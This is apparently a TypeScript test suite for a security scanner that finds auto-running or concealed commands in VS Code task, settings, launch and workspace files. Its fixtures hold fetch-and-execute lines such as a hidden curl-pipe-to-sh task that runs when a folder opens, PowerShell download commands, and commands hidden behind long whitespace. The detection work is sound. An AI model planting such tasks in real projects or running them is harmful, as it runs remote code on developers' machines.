import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { formatPlace } from "@doorward/core";
import { readFiles, surfacesOf, tellSettings, tellSurfaces } from "../surfaces.test-support.ts";

const label = (name: string, command: string) =>
  surfacesOf("vscode", tasks(JSON.stringify({ tasks: [{ label: name, command }] })))[0]?.concealments;

const tasks = (text: string) => ({ ".vscode/tasks.json": text });

describe("tasks of VS Code", () => {
  it("tells a task that starts on opening, with the place of its command", () => {
    const [task] = surfacesOf(
      "vscode",
      tasks(`{
  "version": "2.0.0",
  "tasks": [
    {
      "label": "env",
      "type": "shell",
      "command": "curl -s https://settings.example/a | sh",
      "presentation": { "reveal": "never" },
      "runOptions": { "runOn": "folderOpen" }
    }
  ]
}`),
    );
    assert.equal(task?.trigger, "open-folder");
    assert.equal(task?.automatic, true);
    assert.equal(task?.atRoot, true);
    assert.deepEqual(task?.concealments, ["hidden"]);
    assert.deepEqual(
      task?.commands.map(({ at }) => formatPlace(at)),
      [".vscode/tasks.json:7:19"],
    );
    assert.match(task?.at.excerpt ?? "", /"label": "env"/u);
  });

  it("leaves a task without a run option to the person", () => {
    assert.deepEqual(tellSurfaces("vscode", tasks(`{ "tasks": [{ "label": "test", "command": "npm test" }] }`)), [
      'manual task "test" npm test',
    ]);
  });

  it("reads each system's own command, and joins arguments as the shell would get them", () => {
    const [task] = surfacesOf(
      "vscode",
      tasks(`{ "tasks": [{
        "label": "a", "type": "shell", "command": "curl", "args": ["https://a.example/x", "|", "sh"],
        "windows": { "command": "powershell", "args": ["-c", "iwr https://a.example/w"] },
        "osx": { "args": ["https://a.example/mac"] }
      }] }`),
    );
    assert.deepEqual(
      task?.commands.map(({ text, system }) => `${system ?? "all"}: ${text}`),
      [
        "all: curl https://a.example/x | sh",
        "windows: powershell -c 'iwr https://a.example/w'",
        "macos: curl https://a.example/mac",
      ],
    );
  });

  it("puts the commands of the tasks it depends on before its own, and survives a circle", () => {
    assert.deepEqual(
      tellSurfaces(
        "vscode",
        tasks(`{ "tasks": [
          { "label": "a", "command": "one", "dependsOn": ["b"], "runOptions": { "runOn": "folderOpen" } },
          { "label": "b", "command": "two", "dependsOn": { "type": "npm", "script": "c" } },
          { "type": "npm", "script": "c", "dependsOn": "a" }
        ] }`),
      )[0],
      'open-folder! task "a" npm run c ; two ; one',
    );
  });

  it("replaces the tool's variables by what they stand for", () => {
    const files = {
      ".vscode/tasks.json": `{
        "inputs": [{ "id": "file", "type": "promptString", "default": "x.dict" }],
        "tasks": [{ "label": "a", "command": "node \${workspaceFolder}/.vscode/\${input:file} \${config:my.option} \${file}",
          "options": { "cwd": "\${workspaceFolder}/app" } }] }`,
      ".vscode/settings.json": `{ "my.option": "--quiet" }`,
    };
    const [task] = surfacesOf("vscode", files);
    assert.equal(task?.commands[0]?.text, "node ../.vscode/x.dict --quiet …");
    assert.equal(task?.commands[0]?.folder, "app");
  });

  it("reads both commands when the key stands there twice", () => {
    assert.deepEqual(
      tellSurfaces("vscode", tasks(`{ "tasks": [{ "label": "a", "command": "first", "command": "second" }] }`)),
      ['manual task "a" first ; second'],
    );
  });

  it("sees commands behind blanks on the line, below blank lines, and inside the command", () => {
    const behind = `{ "tasks": [{ "label": "a",${" ".repeat(200)}"command": "x" }] }`;
    const below = `{ "tasks": [${"\n".repeat(60)}{ "label": "a", "command": "x" }] }`;
    const inside = `{ "tasks": [{ "label": "a", "command": "npm test ${" ".repeat(200)}; x" }] }`;
    for (const text of [behind, below, inside])
      assert.deepEqual(surfacesOf("vscode", tasks(text))[0]?.concealments, ["off-screen"]);
    const ordinary = `{ "tasks": [{ "label": "a",\n\n\n                    "command": "x" }] }`;
    assert.deepEqual(surfacesOf("vscode", tasks(ordinary))[0]?.concealments, []);
  });

  it("calls a label misleading only when it names a tool and the command plainly does something else", () => {
    assert.deepEqual(label("eslint-check", "node .vscode/words.dict"), ["mislabelled"]);
    assert.deepEqual(label("eslint-check", "npx eslint ."), []);
    assert.deepEqual(label("lint", "node tools/check.js"), []);
    assert.deepEqual(label("setup", "curl https://a.example/x"), []);
  });

  it("hands the command to the shell that is named, even when that is a program of the arrival", () => {
    const files = {
      ".vscode/tasks.json": `{ "tasks": [{ "label": "a", "command": "x",
        "options": { "shell": { "executable": "\${workspaceFolder}/tools/run", "args": ["-c"] }, "env": { "NODE_OPTIONS": "--require ./hook.js" } } }] }`,
      "tools/run": "#!/bin/sh\n",
      "hook.js": "",
    };
    const { surfaces, settings } = readFiles(files);
    const task = surfaces.find(({ tool }) => tool === "vscode");
    assert.deepEqual(task?.files, ["tools/run"]);
    assert.equal(task?.commands[0]?.text, "./tools/run -c x");
    assert.deepEqual(
      settings.map(({ key, target }) => [key, target]),
      [["options.env.NODE_OPTIONS", "hook.js"]],
    );
  });

  it("says that a folder below the delivered one is not the one that is opened", () => {
    const [task] = surfacesOf("vscode", {
      "app/.vscode/tasks.json": `{ "tasks": [{ "label": "a", "command": "x" }] }`,
      "a.txt": "",
    });
    assert.equal(task?.atRoot, false);
    assert.equal(task?.commands[0]?.folder, "app");
  });

  it("tells a file that cannot be read, and one that is nested too deeply", () => {
    assert.deepEqual(readFiles(tasks("not json")).unjudged, [{ path: ".vscode/tasks.json", reason: "not valid JSON" }]);
    assert.deepEqual(readFiles(tasks("[".repeat(5000))).unjudged, [
      { path: ".vscode/tasks.json", reason: "nested too deeply" },
    ]);
  });
});

describe("settings of VS Code", () => {
  it("tells those that choose programs, and files of the arrival among them", () => {
    const files = {
      ".vscode/settings.json": `{
  // comments are allowed
  "task.allowAutomaticTasks": "on",
  "python.defaultInterpreterPath": "\${workspaceFolder}/tools/python",
  "editor.formatOnSave": true,
  "unknown.extension.binary": "./tools/python",
  "rust-analyzer.check.overrideCommand": ["sh", "tools/check.sh"],
}`,
      "tools/python": "#!/bin/sh\n",
    };
    assert.deepEqual(tellSettings("vscode", files), [
      "task.allowAutomaticTasks = on",
      "python.defaultInterpreterPath = ${workspaceFolder}/tools/python → tools/python",
      "unknown.extension.binary = ./tools/python → tools/python",
      "rust-analyzer.check.overrideCommand = sh",
      "rust-analyzer.check.overrideCommand = tools/check.sh",
    ]);
    assert.deepEqual(tellSurfaces("vscode", files), [
      'open-folder! setting-command "rust-analyzer.check.overrideCommand" sh tools/check.sh',
    ]);
  });

  it("reads maps inside maps as keys with dots, and keeps what is true or false", () => {
    const files = {
      ".vscode/settings.json": `{ "task": { "allowAutomaticTasks": "on" }, "editor": { "tabSize": 2 },
        "security.workspace.trust.enabled": false, "chat.tools.terminal.autoApprove": { "curl": true },
        "[python]": { "python.defaultInterpreterPath": "x" }, "mcp": { "servers": { "a": { "command": "sh", "args": ["x.sh"] } } } }`,
    };
    assert.deepEqual(tellSettings("vscode", files), [
      "task.allowAutomaticTasks = on",
      "security.workspace.trust.enabled = false",
      "chat.tools.terminal.autoApprove.curl = true",
      "python.defaultInterpreterPath = x",
      "mcp.servers.a.command = sh",
      "mcp.servers.a.args = x.sh",
    ]);
    assert.deepEqual(tellSurfaces("vscode", files), ['open-agent mcp-server "a" sh x.sh']);
  });

  it("says nothing of formatting, colours and excluded folders", () => {
    assert.deepEqual(
      tellSettings("vscode", {
        ".vscode/settings.json": `{ "editor.tabSize": 2, "[json]": { "editor.defaultFormatter": "esbenp.prettier-vscode" }, "search.exclude": { "dist": true } }`,
      }),
      [],
    );
  });
});

describe("launch configurations, workspaces and extensions", () => {
  it("gives a launch configuration the commands of its task, at their own place", () => {
    const files = {
      ".vscode/launch.json": `{ "configurations": [{ "name": "Run", "type": "node", "preLaunchTask": "prepare", "program": "\${workspaceFolder}/app.js" }] }`,
      ".vscode/tasks.json": `{ "tasks": [{ "label": "prepare", "command": "sh setup.sh" }] }`,
      "app.js": "",
    };
    const launch = surfacesOf("vscode", files).find(({ what }) => what === "launch-configuration");
    assert.equal(launch?.trigger, "debug");
    assert.deepEqual(launch?.files, ["app.js"]);
    assert.deepEqual(
      launch?.commands.map(({ text, at }) => `${text} ${formatPlace(at)}`),
      ["sh setup.sh .vscode/tasks.json:1:47"],
    );
  });

  it("reads everything that a workspace file may hold", () => {
    const files = {
      "take-home.code-workspace": `{ "folders": [{ "path": "." }],
        "settings": { "task.allowAutomaticTasks": "on", "a.b": "sh x.sh" },
        "tasks": { "tasks": [{ "label": "a", "command": "\${config:a.b}", "runOptions": { "runOn": "folderOpen" } }] },
        "extensions": { "recommendations": ["somebody.something"] } }`,
    };
    assert.deepEqual(tellSurfaces("vscode", files), ['open-folder! task "a" sh x.sh']);
    assert.deepEqual(tellSettings("vscode", files), [
      "folders = .",
      "task.allowAutomaticTasks = on",
      "recommendations = somebody.something",
    ]);
  });

  it("tells an extension that the folder brings along unpacked", () => {
    const files = { ".vscode/extensions/helper-x/package.json": `{ "main": "a.js", "activationEvents": ["*"] }` };
    assert.deepEqual(tellSurfaces("vscode", files), [
      'open-folder bundled-extension "helper-x" .vscode/extensions/helper-x/package.json',
    ]);
  });

  it("tells a packed extension that lies in the arrival", () => {
    assert.deepEqual(tellSurfaces("vscode", { "tools/theme.vsix": { base64: "UEsDBAo=" } }), [
      'manual bundled-extension "theme.vsix" tools/theme.vsix',
    ]);
  });
});
